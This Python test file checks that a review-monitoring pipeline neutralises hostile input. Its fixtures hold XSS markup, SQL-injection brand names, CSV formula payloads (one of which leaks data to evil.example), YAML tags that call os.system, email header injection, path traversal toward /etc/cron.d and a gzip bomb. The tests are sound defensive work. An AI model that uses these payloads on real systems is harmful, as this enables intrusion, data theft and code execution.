"""Hostile input, end to end and at the edges: markup and script in crawled reviews, quotes
and SQL in brand names and targets, formulas in CSV attachments, unsafe YAML and paths that
try to leave their folder.

The end-to-end part serves hostile reviews from the demo site (its fault-injection hook),
runs the real daily job (crawl, quality gate, warehouse, transform, alerts, report, e-mail
through a real SMTP server) and reads every e-mail and archive page back with html.parser.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import json
import os
import threading
from dataclasses import dataclass
from datetime import UTC, date, datetime
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repwatch.config import Config, ConfigError, load_config
from repwatch.crawl import CrawlOptions, crawl_in_subprocess, rejects_path
from repwatch.demo_site.routing import Response
from repwatch.demo_site.server import running_server
from repwatch.landing import landing_file
from repwatch.quality import check_raw_batch
from tests.conftest import (
    DEMO_CONFIG,
    demo_base_urls,
    demo_settings,
    project_scrapy_settings,
    write_settings,
)

reliability = pytest.mark.reliability

# Hypothesis's patch of failing examples trips over zope.interface (tests/test_fuzz_parsers.py).
with contextlib.suppress(ImportError):
    from hypothesis.extra import _patching

    _patching.get_patch_for = lambda *args, **kwargs: None

DAY = date(2026, 11, 20)
HOSTILE_BRAND = "O'Brien\"; drop table int_reviews; --"
HOSTILE_TARGET = (
    "https://www.acme-hotels.example/hotels/acme-shop-downtown?ref=O'Brien\"; drop table x; --"
)
HOSTILE_TEXT = 'Broken again <script>alert("text")</script> <img src=x onerror=alert(1)> awful'
HOSTILE_TITLE = "<iframe src=javascript:alert(3)></iframe> Worst"
HOSTILE_AUTHOR = '<a href="javascript:alert(2)" onclick="alert(4)">Mallory</a>'
HOSTILE_LINK = "javascript:alert(document.cookie)"
FEED_PAGE_1 = "/us/rss/customerreviews/page=1/id=1000001/sortby=mostrecent/json"
HOSTILE_REVIEWS = 10


# ---------------------------------------------------------------- reading HTML back


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


_ACTIVE_TAGS = {"script", "iframe", "object", "embed", "frame", "applet", "base", "form"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}


def active_content(html: str) -> list[str]:
    """What a browser would run or load in the document: script-like elements, event
    handler attributes, and script or HTML URLs (data: images are fine)."""
    markup = _Markup()
    markup.feed(html)
    markup.close()
    found = [f"<{tag}>" for tag, _ in markup.tags if tag in _ACTIVE_TAGS]
    for tag, attributes in markup.tags:
        for name, value in attributes:
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...>")
            squashed = "".join((value or "").split()).lower()
            if name in _URL_ATTRIBUTES and squashed.startswith(
                ("javascript:", "vbscript:", "data:text", "data:application")
            ):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def visible_text(html: str) -> str:
    markup = _Markup()
    markup.feed(html)
    markup.close()
    return " ".join(" ".join(markup.text).split())


# ---------------------------------------------------------------- the hostile day


@dataclass
class HostileRun:
    config: Config
    mails: list[EmailMessage]
    archive_pages: list[Path]


def _hostile_feed(base_url: str) -> dict:
    """The demo site's own first App Store page, its newest reviews made hostile."""
    feed = json.loads(urlopen(base_url + FEED_PAGE_1).read())
    for number, entry in enumerate(feed["feed"]["entry"][:HOSTILE_REVIEWS]):
        entry["im:rating"] = {"label": "1"}
        entry["im:voteSum"] = {"label": str(9000 + number)}  # first among alert examples
        entry["updated"] = {"label": f"{DAY}T2{number % 4}:00:00+00:00"}
        entry["title"] = {"label": HOSTILE_TITLE}
        entry["content"] = {"label": HOSTILE_TEXT, "attributes": {"type": "text"}}
        entry["author"] = {"name": {"label": HOSTILE_AUTHOR}}
        entry["link"] = {"attributes": {"rel": "related", "href": HOSTILE_LINK}}
    return feed


def _hostile_settings(site_url: str, smtp_port: int, data_dir: Path) -> dict:
    settings = demo_settings()
    for brand in settings["brands"]:
        if brand["name"] != "Acme Shop":
            continue
        for source in brand["sources"]:
            if source["source"] == "jsonld":
                for target in source["targets"]:
                    target["url"] = HOSTILE_TARGET
        brand["name"] = HOSTILE_BRAND
    for event in settings.get("events", []):
        event["brand"] = HOSTILE_BRAND
    settings["crawl"].update(base_urls=demo_base_urls(site_url), lookback_days=3)
    settings["smtp"].update(host="127.0.0.1", port=smtp_port)
    settings["paths"] = {"data_dir": str(data_dir)}
    # Fixed thresholds: an alert fires without the weeks of history a baseline needs.
    settings["alerts"]["rules"]["negative"] = {"statistical": False, "fixed_warning": 3}
    settings["alerts"]["trigger_words"].append("'; drop table int_reviews; --")
    return settings


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> HostileRun:
    from repwatch.pipeline import run_day
    from repwatch.smtp_sink import SmtpSink

    tmp_path = tmp_path_factory.mktemp("hostile")
    saved = os.environ.pop("REPWATCH_DATA_DIR", None)
    try:
        with (
            running_server(last_day=DAY) as server,
            SmtpSink(host="127.0.0.1", port=0, out_dir=tmp_path / "mailbox") as sink,
        ):
            server.inject(FEED_PAGE_1, Response.json(_hostile_feed(server.base_url)))
            settings = _hostile_settings(server.base_url, sink.port, tmp_path / "data")
            config = load_config(write_settings(tmp_path, settings))
            run_day(config, DAY, send=True)
            mails = [
                BytesParser(policy=policy.default).parse(path.open("rb")) for path in sink.received
            ]
    finally:
        if saved is not None:
            os.environ["REPWATCH_DATA_DIR"] = saved
    pages = sorted(config.paths.reports_dir.rglob("*.html"))
    return HostileRun(config, mails, pages)


def _html_parts(message: EmailMessage) -> list[str]:
    return [part.get_content() for part in message.walk() if part.get_content_type() == "text/html"]


def _kind(message: EmailMessage) -> str:
    report = str(message.get("X-Repwatch-Report", ""))
    return report.split("/")[0] if report else "alert"


@reliability(
    row="HTML and script in review texts, titles, author names and links, crawled from a site "
    "and carried through the whole daily job",
    expected="Shown as text in every e-mail (report, alert) and archive page: no script "
    "element, event handler or javascript: link comes out of the review content",
)
def test_hostile_reviews_are_shown_as_text_in_every_mail_and_archive_page(hostile_run):
    kinds = {_kind(message) for message in hostile_run.mails}
    assert {"daily", "alert"} <= kinds, f"mails received: {sorted(kinds)}"
    assert hostile_run.archive_pages, "no archive page written"
    documents = {
        f"{_kind(message)} mail to {message['To']}": html
        for message in hostile_run.mails
        for html in _html_parts(message)
    }
    documents |= {
        f"archive {page.name}": page.read_text("utf-8") for page in hostile_run.archive_pages
    }
    for name, html in documents.items():
        assert active_content(html) == [], name
    # ... and the hostile reviews were really there, as text.
    showing = {name for name, html in documents.items() if HOSTILE_TEXT in visible_text(html)}
    assert any(name.startswith("daily mail") for name in showing), sorted(showing)
    assert any(name.startswith("alert mail") for name in showing), sorted(showing)
    assert any(name.startswith("archive") for name in showing), sorted(showing)


@reliability(
    row="Quotes and SQL in a brand name and a crawl target (O'Brien\"; drop table int_reviews; --)",
    expected="No SQL error anywhere in the daily job; the values round-trip unchanged into "
    "the warehouse, the report and the e-mail subject",
)
def test_quotes_and_sql_in_brand_and_target_round_trip(hostile_run):
    config = hostile_run.config
    with duckdb.connect(str(config.paths.warehouse), read_only=True) as con:
        brands = {
            row[0] for row in con.execute("select distinct brand from int_reviews").fetchall()
        }
        from_target = con.execute(
            "select count(*) from int_reviews where target_id = ?", [f"url={HOSTILE_TARGET}"]
        ).fetchone()[0]
        alerted = con.execute(
            "select count(*) from mart_alerts where brand = ? and fired", [HOSTILE_BRAND]
        ).fetchone()[0]
    assert HOSTILE_BRAND in brands
    assert from_target > 0
    assert alerted > 0
    daily = [message for message in hostile_run.mails if _kind(message) == "daily"]
    assert daily and all(HOSTILE_BRAND in str(message["Subject"]) for message in daily)
    for message in daily:
        (html,) = _html_parts(message)
        assert HOSTILE_BRAND in visible_text(html)


# ---------------------------------------------------------------- CSV attachments

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
spreadsheet_text = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            '",=1+1\r\n=2+2',
            "＝1+1",
        ]
    ),
)


@reliability(
    row="Spreadsheet formulas in review texts exported as a CSV attachment "
    "(=HYPERLINK, +cmd, -, @, tab, CR, quotes and line breaks inside cells)",
    expected="Every text cell starting with = + - @ tab or CR is prefixed with ' (opens as "
    "text); rows and cells keep their shape",
)
@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(rows=st.lists(st.tuples(spreadsheet_text, spreadsheet_text), max_size=6))
def test_formulas_in_csv_attachments_are_neutralised(rows):
    from repwatch.attachments import action_list_csv

    body = action_list_csv(
        [{"text": text, "author": author} for text, author in rows],
        [("text", "Review"), ("author", "Author")],
    )
    text = body.decode("utf-8").removeprefix("\ufeff")
    header, *read = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["Review", "Author"]
    assert len(read) == len(rows)
    for cells, sent in zip(read, rows, strict=True):
        assert len(cells) == 2
        for cell, value in zip(cells, sent, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell in (value, "'" + value)


# ---------------------------------------------------------------- unsafe config


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "repwatch.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@reliability(
    row="Config with unsafe YAML tags (!!python/object/apply:os.system, !!python/name, "
    "!!python/object/new)",
    expected="Refused with a ConfigError naming the tag and the line; nothing is run",
)
@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch {marker}']",
        "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
        "!!python/name:os.system",
        "!!python/object/apply:subprocess.check_call [['touch', '{marker}']]",
    ],
)
def test_unsafe_yaml_tags_are_refused_and_never_run(tmp_path, tag):
    marker = tmp_path / "pwned"
    text = DEMO_CONFIG.read_text(encoding="utf-8").replace(
        "timezone: UTC", f"timezone: UTC\nbrands_extra: {tag.format(marker=marker)}", 1
    )
    with pytest.raises(ConfigError) as refused:
        load_config(_write(tmp_path, text))
    message = str(refused.value)
    line = next(n for n, text in enumerate(text.splitlines(), 1) if text.startswith("brands_"))
    assert "not valid YAML" in message and "python/" in message and f"line {line}:" in message
    assert "only plain YAML is read" in message
    assert not marker.exists()


@reliability(
    row="Line breaks in a brand or recipient name (a header injection: 'Acme\\r\\nBcc: ...')",
    expected="Refused with a ConfigError naming the key",
)
@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("brands", 0, "name"), "Acme\r\nBcc: spy@evil.example"),
        (("reports", "daily", "recipients", 0, "name"), "CS\nBcc: spy@evil.example"),
    ],
)
def test_line_breaks_in_names_are_refused(tmp_path, path, value):
    settings = demo_settings()
    node = settings
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    with pytest.raises(ConfigError, match=r"one line of text"):
        load_config(write_settings(tmp_path, settings))


# ---------------------------------------------------------------- paths


@reliability(
    row="Config paths that try to leave the data folder: a raw folder '../../etc', the "
    "data folder given through '..' or a symlink",
    expected="Only paths.data_dir is configurable (sub-folders are fixed, a raw_dir key is "
    "refused as unknown); data_dir is resolved once, symlinks and '..' included, to the "
    "real folder that `config show` prints",
)
def test_config_paths_cannot_move_folders_out_of_the_data_folder(tmp_path):
    settings = demo_settings()
    settings["paths"] = {"data_dir": "data", "raw_dir": "../../etc"}
    with pytest.raises(ConfigError, match=r"paths\.raw_dir: unknown key"):
        load_config(write_settings(tmp_path, settings))

    real = tmp_path / "disks" / "big" / "repwatch-data"
    real.mkdir(parents=True)
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "data-link").symlink_to(real)
    for given_as in ("data-link", "../disks/./big/repwatch-data"):
        settings["paths"] = {"data_dir": given_as}
        config = load_config(write_settings(tmp_path / "conf", settings))
        assert config.paths.data_dir == real.resolve()
        assert config.paths.raw_dir.parent == real.resolve()


@reliability(
    row="A crawl target whose id holds '../' and '/' (url=../../../etc/cron.d/x)",
    expected="Its landing file is named from a sanitised slug and stays inside the raw folder",
)
def test_a_hostile_target_id_lands_inside_the_raw_folder(tmp_path):
    raw_dir = tmp_path / "data" / "raw"
    target_id = "url=../../../etc/cron.d/x&x=/..\\..\\evil"
    landed = landing_file(raw_dir, "jsonld", target_id, "20261120T000000Z-abcdef12", DAY)
    assert landed.path.resolve().is_relative_to(raw_dir.resolve())
    assert landed.path.parent == raw_dir / "jsonld" / f"crawl_date={DAY}"


@reliability(
    row="A symlink in a drop folder pointing at a file outside it (e.g. the .env with the "
    "SMTP password)",
    expected="Not read: a reject names the file ('a link to a file outside the drop folder'); "
    "the linked file's content appears in no record, reject or message",
)
def test_a_symlink_out_of_a_drop_folder_is_not_read(tmp_path):
    from repwatch.drops import ColumnMapping, read_drops

    secret = tmp_path / "elsewhere" / ".env"
    secret.parent.mkdir()
    secret.write_text("Comments\nREPWATCH_SMTP_PASSWORD=hunter2-secret\n", encoding="utf-8")
    drops = tmp_path / "drops"
    drops.mkdir()
    (drops / "complaints.csv").symlink_to(secret)
    (drops / "fine.csv").write_text("Comments\nSlow delivery\n", encoding="utf-8")
    inner = drops / "inner.csv"
    (drops / "alias.csv").symlink_to(inner)
    inner.write_text("Comments\nRude staff\n", encoding="utf-8")

    mapping = ColumnMapping.from_config("m", {"text": "Comments"})
    result = read_drops(drops, mapping, target_id="folder=drops&mapping=m", crawled_at="x")
    assert result.failed == ["complaints.csv"]
    (reject,) = result.rejects
    assert "a link to a file outside the drop folder" in reject["error"]
    assert "hunter2" not in json.dumps(result.records + result.rejects, ensure_ascii=False)
    # A link that stays inside the folder is an ordinary drop (read once: same checksum).
    assert "alias.csv" in result.read + result.skipped
    assert sorted(record["text"] for record in result.records) == ["Rude staff", "Slow delivery"]


# ---------------------------------------------------------------- huge pages


class _Streaming(BaseHTTPRequestHandler):
    """Sends a page of `size` bytes without a Content-Length (the length is only known by
    reading it all), after an allowing robots.txt."""

    size = 0

    def do_GET(self):  # noqa: N802 (http.server's naming)
        if self.path == "/robots.txt":
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Connection", "close")
        self.end_headers()
        chunk = b" " * 65536
        try:
            for _ in range(self.size // len(chunk) + 1):
                self.wfile.write(chunk)
        except OSError:
            pass  # the crawler hung up once it had read enough

    def log_message(self, format, *args):  # noqa: A002 (the base class's name)
        pass


@reliability(
    row="A huge page: one byte over the download limit (16 MiB), sent with or without a "
    "Content-Length, or a small gzip body that inflates past it",
    expected="Not downloaded (or inflated) further: counted as a rejected page whose reason "
    "names the limit, then quarantined by the quality gate with that reason",
)
@pytest.mark.parametrize("how", ["content-length", "streamed", "gzip bomb"])
def test_a_page_over_the_size_limit_is_refused_and_counted(tmp_path, how):
    limit = project_scrapy_settings().getint("DOWNLOAD_MAXSIZE")
    assert limit <= 64 * 1024 * 1024, "Scrapy's default (1 GB) is no limit for review pages"
    out = tmp_path / "huge.jsonl"
    params = {"app_id": "1000001", "country": "us"}

    def crawl(base_url):
        options = CrawlOptions(base_url=base_url, download_delay=0, max_pages=2)
        return crawl_in_subprocess("appstore", params, out, options)

    if how == "streamed":
        handler = type("Huge", (_Streaming,), {"size": limit + 1})
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            stats = crawl(f"http://127.0.0.1:{server.server_address[1]}")
        finally:
            server.shutdown()
            server.server_close()
    else:
        with running_server(last_day=DAY) as site:
            if how == "content-length":
                huge = Response(b" " * (limit + 1), "application/json")
            else:
                bomb = gzip.compress(b" " * (limit + 1024))
                huge = Response(bomb, "application/json", headers={"Content-Encoding": "gzip"})
            site.inject(FEED_PAGE_1, huge)
            stats = crawl(site.base_url)

    assert stats.rejects == 1 and stats.items == 0 and stats.stopped_because == "error"
    (reject,) = [json.loads(line) for line in rejects_path(out).read_text().splitlines()]
    assert str(limit) in reject["error"]
    assert ("DOWNLOAD_MAXSIZE" in reject["error"]) or ("download limit" in reject["error"])
    checked = check_raw_batch([out], now=datetime.now(UTC))
    (reason,) = checked.quarantined["reason"]
    assert reason.startswith("page failed to parse") and str(limit) in reason
